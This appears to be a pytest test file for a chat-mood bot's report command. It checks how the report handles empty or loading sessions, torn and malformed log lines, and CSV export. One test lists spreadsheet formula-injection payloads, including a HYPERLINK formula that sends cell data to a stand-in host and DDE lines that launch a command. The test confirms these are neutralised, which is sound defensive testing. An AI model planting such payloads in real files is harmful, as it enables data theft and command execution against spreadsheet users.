"""`moodbot report` on real-life histories: empty sessions, the loading phase, damaged files, spreadsheets."""

import csv
import json

import pytest

from bot.cli import main
from bot.tools.report import COLUMNS, read_session

START = 1_800_000_000.0


def window(t, needle, *, mood=None, reaction="草", messages=None, valence="needle"):
    """A "window" line as the bot writes it, `t` seconds into the session."""
    return {
        "type": "window",
        "time": START + t,
        "needle": needle,
        "mood": mood or ("happy" if needle > 0 else "sad"),
        "short": {
            "valence": needle if valence == "needle" else valence,
            "rate": 2.0,
            "shares": {"negative": 0.1, "neutral": 0.2, "positive": 0.7},
            "reactions": [{"text": reaction, "count": 3}] if reaction else [],
        },
        "long": {"valence": needle / 2},
        "totals": {"messages": messages if messages is not None else int(t), "scored": int(t), "dropped": 0},
    }


def write_history(path, windows, *, extra_lines=()):
    lines = [json.dumps({"type": "session", "started": START, "source": "replay", "model": "bundled", "version": 1})]
    lines += [json.dumps(w, ensure_ascii=False) for w in windows]
    path.write_text("\n".join([*lines, *extra_lines]) + "\n", encoding="utf-8")
    return path


def report(tmp_path, capsys, *args):
    code = main(["report", *args, "--dir", str(tmp_path)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_latest_passes_over_a_session_left_by_a_failed_start(tmp_path, capsys):
    """A run that never scored chat leaves a session; `moodbot report` takes the newest one with a mood."""
    write_history(tmp_path / "2026-01-01_200000_sample.jsonl", [window(2 * i, 0.4) for i in range(10)])
    write_history(tmp_path / "2026-01-01_210000_sample.jsonl", [])  # header only: the model never loaded
    write_history(tmp_path / "2026-01-01_220000_sample.jsonl", [window(2, 0.0, mood="loading")])
    code, out, _ = report(tmp_path, capsys)
    assert code == 0
    assert "session   2026-01-01_200000_sample.jsonl" in out
    code, _, err = report(tmp_path, capsys, "2026-01-01_210000_sample")
    assert code == 2 and err.startswith("moodbot: error: ") and "holds no mood" in err and "Traceback" not in err


def test_the_loading_phase_and_silence_are_not_moments(tmp_path, capsys):
    """Before the model is ready (and before anyone chats) there is no mood: neither can be the saddest moment."""
    windows = [window(2 * i, 0.0, mood="loading", reaction=None) for i in range(5)]
    windows += [window(10 + 2 * i, 0.0, mood="quiet", reaction=None, valence=None) for i in range(3)]
    windows += [window(16 + 2 * i, 0.2 + i / 50) for i in range(20)]
    session = read_session(write_history(tmp_path / "s.jsonl", windows))
    assert all(m.mood != "loading" for m in session.moments) and len(session.moments) == 23
    code, out, _ = report(tmp_path, capsys, "s")
    assert code == 0
    assert "saddest   +0.20 at 0.3 min (happy, 草 ×3)" in out
    assert "(loading)" not in out and "(quiet)" not in out
    with (tmp_path / "s.csv").open(encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [r["Mood"] for r in rows[:3]] == ["quiet"] * 3 and len(rows) == 23
    assert rows[0]["Negative %"] == rows[0]["Positive %"] == ""  # nothing scored: no shares, not 0 %


TORN = [
    '{"type": "window", "time": 1800000100, "nee',  # a crash mid-line
    '{"type": "window", "time": 1800000100, "needle": 0.5, "mo\x00\x00\x00\x00\x00\x00',  # a full disk
]
MALFORMED = [
    {"needle": None},
    {"short": [1, 2, 3]},
    {"short": {"valence": 0.1, "reactions": ["草", "www"]}},
    {"time": "21:03"},
    {"time": 1e20},
    {"needle": 7.5},
    {"totals": {"messages": "many"}},
    {"long": "x"},
]


def test_malformed_lines_are_skipped_and_counted_never_a_traceback(tmp_path, capsys):
    """Nulls, wrong types, impossible times, deep nesting and a torn last line: skipped, counted, reported."""
    good = [window(2 * i, 0.3) for i in range(10)]
    bad = [json.dumps({**window(30, 0.1), **change}) for change in MALFORMED]
    bad += ["[" * 100_000 + "]" * 100_000, '{"type": ' * 50_000, "[1, 2]", "null"]
    path = write_history(tmp_path / "s.jsonl", good, extra_lines=[*bad, TORN[0]])
    with path.open("a", encoding="utf-8") as f:
        f.write(TORN[1])
    session = read_session(path)
    assert len(session.moments) == 10
    assert session.skipped == len(bad) + 2
    code, out, err = report(tmp_path, capsys, "s")
    assert code == 0, err
    assert f"skipped   {len(bad) + 2} unreadable lines" in out
    assert "Traceback" not in err


@pytest.mark.parametrize(
    "header",
    [{"type": "session", "started": "yesterday"}, {"type": "session", "started": 1e20, "source": ["x"]}],
)
def test_a_damaged_header_is_skipped_too(tmp_path, header):
    """A session line with a bad start time is skipped; the report still reads the windows."""
    path = tmp_path / "s.jsonl"
    lines = [json.dumps(header), json.dumps({"type": "session", "started": START, "source": "replay"})]
    lines += [json.dumps(window(2 * i, 0.3)) for i in range(3)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    session = read_session(path)
    assert session.skipped == 1 and session.started == START and len(session.moments) == 3


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+CMD|' /C CALC'!A0",
    "@SUM(1)",
    "-2+3+CMD|' /C CALC'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_chat_text_never_runs_as_a_spreadsheet_formula(tmp_path, capsys):
    """A top reaction such as =HYPERLINK(...) or +CMD|... is written with a leading quote (OWASP)."""
    windows = [window(2 * i, 0.3 - i / 10, reaction=text) for i, text in enumerate(FORMULAS)]
    write_history(tmp_path / "s.jsonl", windows)
    assert report(tmp_path, capsys, "s")[0] == 0
    with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == COLUMNS
    reactions = [row[COLUMNS.index("Top reaction")] for row in rows[1:]]
    assert reactions == ["'" + text for text in FORMULAS]
    for row in rows[1:]:
        for cell in row:
            number = cell.lstrip("-").replace(".", "", 1).isdigit()
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_has_a_byte_order_mark_and_plain_columns(tmp_path, capsys):
    """The CSV starts with a UTF-8 BOM (Excel then shows 草 and 😭) and speaks in percentages."""
    write_history(tmp_path / "s.jsonl", [window(2, 0.5, reaction="😭", messages=40), window(4, -0.25, messages=55)])
    assert report(tmp_path, capsys, "s")[0] == 0
    raw = (tmp_path / "s.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0]["Top reaction"] == "😭" and rows[1]["Top reaction"] == "草"
    assert rows[0]["Mood score"] == "50.0" and rows[1]["Mood score"] == "-25.0"
    assert rows[0]["Negative %"] == "10.0" and rows[0]["Neutral %"] == "20.0" and rows[0]["Positive %"] == "70.0"
    assert [r["New messages"] for r in rows] == ["40", "15"]  # per row, not a running total
    assert (tmp_path / "s.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
